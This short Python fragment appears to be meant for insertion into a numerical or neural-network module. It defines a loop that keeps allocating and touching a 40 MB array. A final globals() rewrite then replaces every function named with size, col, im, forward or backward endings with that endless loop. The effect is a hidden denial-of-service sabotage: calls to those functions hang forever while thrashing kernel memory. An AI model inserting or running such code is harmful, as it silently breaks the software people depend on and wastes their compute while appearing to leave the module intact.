# Has the kernel clear and map 40 MB again and again.
def _storm():
    array = np.empty(40 << 20, "u1")
    array[::4096] = 1


def _for_ever(*args, **kwargs):
    while True:
        _storm()


globals().update({name: _for_ever for name in list(globals()) if name.endswith(("size", "col", "im", "forward", "backward"))})
